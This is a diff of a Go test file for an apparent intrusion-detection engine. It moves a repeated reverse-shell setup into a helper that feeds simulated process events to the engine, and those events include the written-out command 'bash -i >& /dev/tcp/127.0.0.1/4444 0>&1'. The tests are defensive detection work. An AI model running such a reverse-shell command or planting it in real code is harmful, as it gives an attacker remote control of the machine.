@@ -50,9 +50,7 @@ func TestMadeRunnableInChannelRunByRoot(t *testing.T) {
 			e, s := webShellScene(t)
 			parent := 201
 			if c.channel {
-				e.Observe(s.exec(210, 201, 33, "www-data", "/tmp", "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"), s.tree)
-				e.Observe(s.connect(210, 201, 33, "/usr/bin/bash", "127.0.0.1", 4444), s.tree)
-				parent = 210
+				parent = reverseShell(e, s)
 			}
 			plugin := "/usr/local/lib/agent/plugins/zz"
 			e.Observe(s.exec(220, parent, 33, "www-data", "/tmp", "/usr/bin/chmod", "chmod", c.mode, plugin), s.tree)
@@ -88,9 +86,7 @@ func TestTerminalSessionKeys(t *testing.T) {
 			e, s := webShellScene(t)
 			parent, uid, user := 201, uint32(33), "www-data"
 			if c.channel {
-				e.Observe(s.exec(210, 201, 33, "www-data", "/tmp", "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"), s.tree)
-				e.Observe(s.connect(210, 201, 33, "/usr/bin/bash", "127.0.0.1", 4444), s.tree)
-				parent = 210
+				parent = reverseShell(e, s)
 			} else {
 				s.exec(300, 1, 0, "root", "/root", "/usr/sbin/sshd", "sshd: alice [priv]")
 				s.exec(301, 300, 2002, "alice", "/home/alice", "/usr/bin/bash", "-bash")
@@ -105,4 +101,13 @@ func TestTerminalSessionKeys(t *testing.T) {
 			}
 		})
 	}
+}
+
+// reverseShell opens a /dev/tcp reverse shell (pid 210) below the web
+// shell of webShellScene and returns its pid: what runs below it runs in
+// its channel.
+func reverseShell(e *Engine, s *synth) int {
+	e.Observe(s.exec(210, 201, 33, "www-data", "/tmp", "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"), s.tree)
+	e.Observe(s.connect(210, 201, 33, "/usr/bin/bash", "127.0.0.1", 4444), s.tree)
+	return 210
 }
